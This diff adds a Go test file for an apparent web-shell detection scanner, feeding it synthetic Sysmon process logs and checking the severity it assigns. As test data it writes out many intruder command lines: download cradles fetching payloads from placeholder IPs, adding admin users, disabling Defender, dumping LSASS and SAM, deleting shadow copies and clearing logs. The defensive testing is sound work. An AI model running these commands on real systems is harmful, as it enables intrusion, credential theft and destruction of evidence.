@@ -1,0 +1,323 @@
+package scan_test
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"webshellscan/rules"
+	"webshellscan/scan"
+	"webshellscan/scan/evtx/evtxtest"
+)
+
+// levelCase is a chain of command lines below a server, each below the one before,
+// with the level that the first is to have.
+type levelCase struct {
+	source string
+	server string // a key of levelServers
+	lines  []string
+	want   rules.Level
+}
+
+// levelServers are servers of made logs: image and command line.
+var levelServers = map[string][2]string{
+	"iis":      {w3wp, `w3wp.exe -ap "shop"`},
+	"kudu":     {w3wp, `w3wp.exe -ap "~1shop"`},
+	"apache":   {`C:\xampp\apache\bin\httpd.exe`, `httpd.exe -k runservice`},
+	"phpcgi":   {`C:\php\php-cgi.exe`, `php-cgi.exe -b 127.0.0.1:9000`},
+	"teamcity": {`C:\TeamCity\jre\bin\java.exe`, `java.exe -cp x org.apache.catalina.startup.Bootstrap start`},
+	"manage":   {`C:\ManageEngine\ADManager Plus\jre\bin\java.exe`, `java.exe -Dcatalina.home=.. org.apache.catalina.startup.Bootstrap`},
+	"next":     {`C:\Program Files\nodejs\node.exe`, `node.exe node_modules\next\dist\bin\next start`},
+	"tomcat":   {`C:\Tomcat\bin\tomcat9.exe`, `tomcat9.exe //RS//Tomcat9`},
+}
+
+// programOf returns the image that a command line runs, as far as these tests need
+// it: what stands before " := " if that is there.
+func programOf(line string) string {
+	if image, _, ok := strings.Cut(line, " := "); ok {
+		return image
+	}
+	first := strings.ToLower(strings.Trim(strings.Fields(line)[0], `"`))
+	name := strings.TrimSuffix(first[strings.LastIndexByte(first, '\\')+1:], ".exe") + ".exe"
+	if name == "powershell.exe" {
+		return `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	}
+	return `C:\Windows\System32\` + name
+}
+
+// levelEvents are the events of a case, on a host of its own.
+func levelEvents(host string, c levelCase) []evtxtest.Event {
+	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
+	server := levelServers[c.server]
+	var events []evtxtest.Event
+	create := func(pid uint32, image, line, parentImage, parentLine string) {
+		at = at.Add(time.Second)
+		events = append(events, evtxtest.NewEvent(at, host, &evtxtest.SysmonProcessCreate{
+			ProcessID: pid, ParentProcessID: pid - 4, Image: image, CommandLine: line, User: shopUser, LogonID: 0x9999, IntegrityLevel: "High",
+			ParentImage: parentImage, ParentCommandLine: parentLine,
+		}))
+	}
+	create(400, server[0], server[1], `C:\Windows\System32\services.exe`, "services.exe")
+	image, line := server[0], server[1]
+	for i, next := range c.lines {
+		program := programOf(next)
+		if _, after, ok := strings.Cut(next, " := "); ok {
+			next = after
+		}
+		create(uint32(404+4*i), program, next, image, line)
+		image, line = program, next
+	}
+	return events
+}
+
+// scanCases scans cases, each on a host of its own, and returns the result with
+// the first finding of each.
+func scanCases(t *testing.T, o scan.RuleOptions, cases ...levelCase) (*scan.Result, []*scan.Finding) {
+	t.Helper()
+	var events []evtxtest.Event
+	for i, c := range cases {
+		events = append(events, levelEvents(fmt.Sprintf("HOST%d", i), c)...)
+	}
+	file, err := evtxtest.Build(evtxtest.Options{}, events)
+	if err != nil {
+		t.Fatal(err)
+	}
+	folder := t.TempDir()
+	if err := os.WriteFile(filepath.Join(folder, "sysmon.evtx"), file.Data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	res := mustScan(t, scan.Options{Paths: []string{folder}, Rules: o})
+	first := make([]*scan.Finding, len(cases))
+	for _, f := range res.Findings {
+		var i int
+		if _, err := fmt.Sscanf(f.Host, "HOST%d", &i); err != nil {
+			t.Fatal(err)
+		}
+		if first[i] == nil {
+			first[i] = f
+		}
+	}
+	return res, first
+}
+
+func checkLevels(t *testing.T, cases []levelCase) {
+	t.Helper()
+	_, first := scanCases(t, scan.RuleOptions{}, cases...)
+	for i, c := range cases {
+		if c.source == "" {
+			t.Errorf("%q has no source", c.lines)
+		}
+		switch f := first[i]; {
+		case f == nil:
+			t.Errorf("%s: %q: no finding", c.server, c.lines)
+		case f.Level != c.want:
+			t.Errorf("%s: %q: %s, want %s: %v", c.server, c.lines, f.Level, c.want, f.LevelReasons)
+		}
+	}
+}
+
+// Where what commands do is written down.
+const (
+	sigmaShell   = "SigmaHQ proc_creation_win_webshell_susp_process_spawned_from_webserver, its filters"
+	sigmaRecon   = "SigmaHQ proc_creation_win_webshell_recon_commands_and_processes"
+	sigmaHacking = "SigmaHQ proc_creation_win_webshell_hacking"
+	sigmaChopper = "SigmaHQ proc_creation_win_webshell_chopper"
+	car13        = "MITRE CAR-2013-04-002"
+	elasticShell = "Elastic persistence_webshell_detection, its exclusions"
+	splunkShell  = "Splunk 2d4470ef-7158-4b47-b68b-1f7f16382156, its false positives"
+	lolbas       = "lolbas-project.github.io"
+	hafnium      = "microsoft.com/en-us/security/blog/2021/03/02/hafnium-targeting-exchange-servers"
+	toolshell    = "microsoft.com/en-us/security/blog/2025/07/22 (ToolShell)"
+)
+
+// TestBehaviour: what intruders do is high or critical, whatever shell it is said in.
+func TestBehaviour(t *testing.T) {
+	high, critical := rules.LevelHigh, rules.LevelCritical
+	checkLevels(t, []levelCase{
+		{sigmaRecon, "iis", []string{`cmd.exe /c whoami`}, high},
+		{sigmaRecon, "tomcat", []string{`cmd /c whoami /all > C:\x\o.txt`}, high},
+		{sigmaRecon, "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "whoami"`}, high},
+		{"SigmaHQ proc_creation_win_cmd_dosfuscation", "iis", []string{`cmd.exe /c w^h^o^ami`}, high},
+		{"SigmaHQ proc_creation_win_cmd_dosfuscation", "iis", []string{`cmd.exe /c who""ami`}, high},
+		{car13, "iis", []string{`cmd.exe /c net user`}, high},
+		{car13, "iis", []string{`cmd.exe /c "net  localgroup administrators"`}, high},
+		{car13, "apache", []string{`cmd.exe /s /c "systeminfo"`}, high},
+		{car13, "apache", []string{`cmd.exe /s /c "hostname & ipconfig"`}, high},
+		{car13, "iis", []string{`cmd.exe /c quser`}, high},
+		{car13, "iis", []string{`cmd.exe /c nltest /domain_trusts`}, high},
+		{car13, "iis", []string{`cmd.exe /c net group "domain admins" /domain`}, high},
+		{sigmaHacking, "apache", []string{`cmd.exe /c dir C:\`}, high},
+		{sigmaHacking, "iis", []string{`cmd.exe /c type C:\inetpub\wwwroot\web.config`}, high},
+		{"SigmaHQ proc_creation_win_certutil_download", "iis", []string{`cmd.exe /c certutil -urlcache -split -f http://203.0.113.9/a.exe C:\apps\a.exe`}, high},
+		{"SigmaHQ proc_creation_win_powershell_download_cradles", "iis", []string{`powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')"`}, high},
+		{lolbas, "tomcat", []string{`cmd.exe /c "start msiexec /q /i http://203.0.113.97/m2.png"`}, high},
+		{lolbas, "tomcat", []string{`cmd.exe /c curl http://203.0.113.97/a.exe -o D:\apps\a.exe`}, high},
+		{"SigmaHQ proc_creation_win_powershell_base64_encoded_cmd", "iis", []string{`powershell.exe -enc dwBoAG8AYQBtAGkA`}, high},
+		{"SigmaHQ proc_creation_win_net_user_add", "iis", []string{`cmd.exe /c net user asp$ P@ss /add`}, critical},
+		{"SigmaHQ proc_creation_win_susp_add_user_local_admin_group", "iis", []string{`cmd.exe /c net localgroup Administrators u1 /add`}, critical},
+		{toolshell, "iis", []string{`powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"`}, critical},
+		{"SigmaHQ proc_creation_win_susp_shadow_copies_deletion", "iis", []string{`cmd.exe /c vssadmin delete shadows /all /quiet`}, critical},
+		{"SigmaHQ proc_creation_win_schtasks_creation", "iis", []string{`cmd.exe /c schtasks /create /ru system /sc MINUTE /tn x /tr D:\apps\x.exe`}, high},
+		{hafnium, "iis", []string{`cmd.exe /c rundll32 C:\windows\system32\comsvcs.dll MiniDump 624 C:\x\l.dmp full`}, critical},
+		{hafnium, "iis", []string{`cmd.exe /c D:\tools\procdump64.exe -accepteula -ma lsass.exe D:\x.dmp`}, critical},
+		{"SigmaHQ proc_creation_win_reg_dumping_sensitive_hives", "iis", []string{`cmd.exe /c reg save hklm\sam D:\s.hiv`}, critical},
+		{"SigmaHQ proc_creation_win_susp_eventlog_clear", "iis", []string{`cmd.exe /c wevtutil cl Security`}, critical},
+		{"SigmaHQ proc_creation_win_pua_chisel", "iis", []string{`cmd.exe /c D:\apps\chisel.exe client 203.0.113.1:443 R:socks`}, high},
+		{"SigmaHQ proc_creation_win_netsh_port_forwarding", "iis", []string{`cmd.exe /c netsh interface portproxy add v4tov4 listenport=1 connectaddress=10.0.0.1`}, high},
+		{"SigmaHQ proc_creation_win_sysinternals_psexec_execution", "iis", []string{`cmd.exe /c D:\tools\PsExec.exe -accepteula \\10.1.1.5 -s cmd`}, high},
+		{"SigmaHQ file_event_win_webshell_creation_detect", "iis", []string{`cmd.exe /c echo x > C:\inetpub\wwwroot\a.aspx`}, critical},
+		{"SigmaHQ file_event_win_webshell_creation_detect", "iis", []string{`cmd.exe /c copy D:\a.txt D:\site\b.php`}, critical},
+		{sigmaChopper, "iis", []string{`"cmd" /c cd /d "c:\inetpub\wwwroot\"&dir&echo [S]&cd&echo [E]`}, critical},
+		{"AntSwordProject/antSword source/core/base.js", "apache", []string{`cmd /c "cd /d "C:/www"&whoami&echo efa923ba504&cd&echo 1a4be8815ef8"`}, critical},
+		{"BeichenDream/GodPotato", "iis", []string{`cmd.exe /c D:\x\GodPotato-NET4.exe -cmd "cmd /c set"`}, critical},
+		{"SigmaHQ proc_creation_win_susp_script_exec_from_temp", "iis", []string{`cmd.exe /c C:\Windows\Temp\x.exe`}, high},
+		{"SigmaHQ proc_creation_win_rundll32_susp_activity", "iis", []string{`rundll32.exe c:\programdata\afk.ttf,bkfkals`}, high},
+		{"github.com/noperator/CVE-2019-18935", "iis", []string{`cmd.exe`}, high},
+	})
+}
+
+// TestHabits: what applications are known to do is low, and what only runs a
+// program is medium at most; the least that speaks against it wins.
+func TestHabits(t *testing.T) {
+	low, medium, high, critical := rules.LevelLow, rules.LevelMedium, rules.LevelHigh, rules.LevelCritical
+	checkLevels(t, []levelCase{
+		{sigmaShell, "apache", []string{`cmd.exe /c "stty 2>&1"`}, low},
+		{sigmaShell, "apache", []string{`cmd.exe /s /c "tput colors 2>&1"`}, low},
+		{sigmaShell, "apache", []string{`cmd.exe /c "mode CON 2> NUL"`}, low},
+		{sigmaShell, "apache", []string{`cmd.exe /c "stty & whoami"`}, high},
+		{sigmaShell, "apache", []string{`cmd.exe /c "stty > C:\www\a.php"`}, critical},
+		{"python/cpython Lib/platform.py", "tomcat", []string{`cmd.exe /c ver`}, low},
+		{"python/cpython Lib/platform.py", "tomcat", []string{`cmd.exe /c ver & whoami`}, high},
+		{"python/cpython Lib/platform.py", "tomcat", []string{`cmd.exe /c ver | more`}, high},
+		{sigmaShell, "apache", []string{`cmd.exe /s /c "git rev-parse --short HEAD"`}, low},
+		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse HEAD & whoami`}, high},
+		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse HEAD && D:\x.exe`}, high},
+		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse %COMSPEC%`}, high},
+		{sigmaShell, "iis", []string{`cmd.exe /c git rev-parse HEAD | D:\x.exe`}, high},
+		{sigmaShell, "iis", []string{`cmd.exe /c git log --output=D:\site\x.txt`}, medium},
+		{sigmaShell, "apache", []string{`cmd.exe /V:ON /E:ON /D /C (git --version)`}, low},
+		{"composer/composer ZipDownloader.php", "apache", []string{`cmd.exe /V:ON /E:ON /D /C (where unzip)`}, low},
+		{"symfony/process", "apache", []string{`cmd.exe /V:ON /E:ON /D /C (wkhtmltopdf --header-html h.html a.html b.pdf) 1>a 2>b`}, low},
+		{"symfony/process", "apache", []string{`cmd.exe /V:ON /E:ON /D /C (wkhtmltopdf a.html b.pdf) 1>a.php 2>b`}, critical},
+		{splunkShell, "iis", []string{`cmd.exe /c "C:\Program Files\ImageMagick-7.1.0\magick.exe convert a.png b.jpg"`}, low},
+		{splunkShell, "iis", []string{`cmd.exe /c C:\Windows\Temp\magick.exe a.png b.jpg`}, high},
+		{"laravel/framework Console/Scheduling/Event.php", "apache", []string{`cmd.exe /V:ON /E:ON /D /C "C:\php\php.exe artisan queue:work"`}, low},
+		{"laravel/framework Console/Scheduling/Event.php", "apache", []string{`cmd.exe /C "C:\php\php.exe artisan tinker --execute=system('whoami')"`}, high},
+		{"Elastic initial_access_exploit_jetbrains_teamcity", "teamcity", []string{`cmd.exe /c dir /-c C:\ProgramData\JetBrains`}, low},
+		{"Elastic initial_access_exploit_jetbrains_teamcity", "teamcity", []string{`cmd.exe /c dir /-c C:\ProgramData\JetBrains & net user`}, high},
+		{"Elastic initial_access_exploit_jetbrains_teamcity", "iis", []string{`cmd.exe /c dir /-c C:\ProgramData\JetBrains`}, high},
+		{sigmaShell, "manage", []string{`C:\Windows\system32\cmd.exe /c C:\ManageEngine\ADManager "Plus\ES\bin\elasticsearch.bat -Enode.name=RMP-NODE1 -pelasticsearch-pid.txt`}, low},
+		{sigmaShell, "manage", []string{`cmd.exe /c sc query "ADManager Plus"`}, low},
+		{sigmaShell, "iis", []string{`cmd.exe /c sc query "ADManager Plus"`}, high},
+		{sigmaShell, "phpcgi", []string{`cmd.exe /c "ipconfig /all"`}, low},
+		{sigmaShell, "tomcat", []string{`cmd.exe /c ipconfig /all`}, high},
+		{"vercel/next.js", "next", []string{`C:\WINDOWS\system32\cmd.exe /d /s /c "netstat -ano | findstr /C::3000 | findstr LISTENING"`}, low},
+		{"vercel/next.js", "next", []string{`C:\WINDOWS\system32\cmd.exe /d /s /c "netstat -ano | findstr /C::3000 & whoami"`}, high},
+		{"vercel/next.js", "iis", []string{`cmd.exe /c "netstat -ano | findstr /C::3000"`}, high},
+		{elasticShell, "iis", []string{`cmd.exe /c echo 'HttpsPortDesktopAgent'`}, low},
+		{elasticShell, "iis", []string{`cmd.exe /c echo [S]&cd`}, critical},
+		{elasticShell, "iis", []string{`"powershell.exe" netsh http show servicestate | ?{$_.Tostring().Contains("8080")}`}, low},
+		{elasticShell, "iis", []string{`"powershell.exe" netsh http show servicestate | iex`}, high},
+		{"projectkudu/kudu wiki", "kudu", []string{`cmd.exe /c deploy.cmd`}, low},
+		{splunkShell, "iis", []string{`cmd.exe /c deploy.cmd`}, medium},
+		{splunkShell, "iis", []string{`cmd.exe /c D:\batch\export.bat`}, medium},
+		{splunkShell, "apache", []string{`cmd.exe /s /c "node E:\app\gen.js"`}, medium},
+		{splunkShell, "apache", []string{`cmd.exe /s /c "node -e require('child_process')"`}, high},
+		{elasticShell, "iis", []string{`cmd.exe /c C:\apps\sync.exe https://prod.vault.azure.net/secrets`}, medium},
+		{splunkShell, "iis", []string{`powershell.exe -NoProfile -File C:\inetpub\reports\disk.ps1`}, medium},
+		{"paessler.com PRTG custom sensors; CVE-2018-9276", "iis", []string{`powershell.exe -ExecutionPolicy Bypass -File "C:\PRTG\demo.ps1" "x;net user p3nT3st P3n! /add"`}, critical},
+		{splunkShell, "iis", []string{`powershell.exe -NoProfile -File C:\Windows\Temp\disk.ps1`}, high},
+		{splunkShell, "iis", []string{`cmd.exe /c evil.exe`}, high},
+		// What it started counts for it, and below something hostile nothing is a habit.
+		{sigmaShell, "iis", []string{`cmd.exe /c D:\batch\export.bat`, `whoami`}, high},
+		{sigmaShell, "iis", []string{`cmd.exe /c D:\batch\export.bat`, `D:\batch\tool.exe := tool.exe`, `reg save hklm\sam D:\s.hiv`}, critical},
+		{sigmaShell, "apache", []string{`cmd.exe /c "git rev-parse HEAD"`, `cmd.exe /c net user a b /add`}, critical},
+	})
+}
+
+// TestLevelReasons: each level says why; below something hostile a habit is set
+// aside, and what a process did is told of what started it.
+func TestLevelReasons(t *testing.T) {
+	res, first := scanCases(t, scan.RuleOptions{},
+		levelCase{"", "iis", []string{`powershell.exe -enc dwBoAG8AYQBtAGkA`, `cmd.exe /c ver`, `whoami`}, 0},
+		levelCase{"", "apache", []string{`cmd.exe /c "stty"`}, 0})
+	f := first[0]
+	want := []string{"from high: ", "at least high: it asks who", "at least high: it hides"}
+	for i, text := range want {
+		if i >= len(f.LevelReasons) || !strings.HasPrefix(f.LevelReasons[i].String(), text) {
+			t.Errorf("reason %d of %v, want %q", i, f.LevelReasons, text)
+		}
+	}
+	shell := res.Findings[slices.Index(res.Findings, f)+1]
+	text := fmt.Sprint(shell.LevelReasons)
+	for _, part := range []string{"set aside low: libraries ask so", "but what started it is no habit", "below it, whoami.exe (412): it asks who"} {
+		if !strings.Contains(text, part) || shell.Level != rules.LevelHigh {
+			t.Errorf("%s: %s: lacks %q", shell.Level, text, part)
+		}
+	}
+	for _, s := range res.Sessions {
+		if len(s.LevelReasons) < 2 || s.LevelReasons[0].Effect != scan.LevelStart {
+			t.Errorf("%s: %v", s.Host, s.LevelReasons)
+		}
+	}
+	if last := res.Sessions[len(res.Sessions)-1]; last.Level != rules.LevelLow || last.Host != "HOST1" {
+		t.Errorf("the habit is not last: %s %s", last.Host, last.Level)
+	}
+}
+
+// TestOwnLevelRules: a user's habit wins over the questions that it names, and
+// over nothing else; what lacks a part is an error.
+func TestOwnLevelRules(t *testing.T) {
+	const habit = `title: Nightly export
+role: lower
+why: the nightly export of the shop runs so
+despite: behaviour_machine
+logsource: {category: process_creation, product: windows}
+detection: {line: {CommandLine|contains: 'D:\shop\export.bat'}, condition: line}
+level: low
+`
+	file := filepath.Join(t.TempDir(), "own.yml")
+	write := func(text string) scan.RuleOptions {
+		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return scan.RuleOptions{Paths: []string{file}}
+	}
+	_, first := scanCases(t, write(habit),
+		levelCase{"", "iis", []string{`cmd.exe /c hostname && D:\shop\export.bat`}, 0},
+		levelCase{"", "iis", []string{`cmd.exe /c whoami && D:\shop\export.bat`}, 0})
+	if first[0].Level != rules.LevelLow || first[1].Level != rules.LevelHigh {
+		t.Errorf("%s %v, %s %v", first[0].Level, first[0].LevelReasons, first[1].Level, first[1].LevelReasons)
+	}
+	for _, bad := range []string{
+		strings.Replace(habit, "why: the nightly export of the shop runs so\n", "", 1),
+		strings.Replace(habit, "level: low\n", "", 1),
+		strings.Replace(habit, "behaviour_machine", "nobody", 1),
+		strings.Replace(habit, "role: lower", "role: raise", 1),
+	} {
+		if res, _ := scanCases(t, write(bad)); res.Summary.Rules.Failed != 1 {
+			t.Errorf("%d failed of\n%s", res.Summary.Rules.Failed, bad)
+		}
+	}
+}
+
+// TestCriticalIsNotLowered: a rule that says critical knows what it found.
+func TestCriticalIsNotLowered(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "own.yml")
+	const rule = `title: Grave
+logsource: {category: process_creation, product: windows}
+detection: {line: {CommandLine|contains: 'rev-parse'}, condition: line}
+level: critical
+`
+	if err := os.WriteFile(file, []byte(rule), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	_, first := scanCases(t, scan.RuleOptions{Paths: []string{file}}, levelCase{"", "iis", []string{`cmd.exe /c git rev-parse HEAD`}, 0})
+	if first[0].Level != rules.LevelCritical {
+		t.Errorf("%s: %v", first[0].Level, first[0].LevelReasons)
+	}
+}
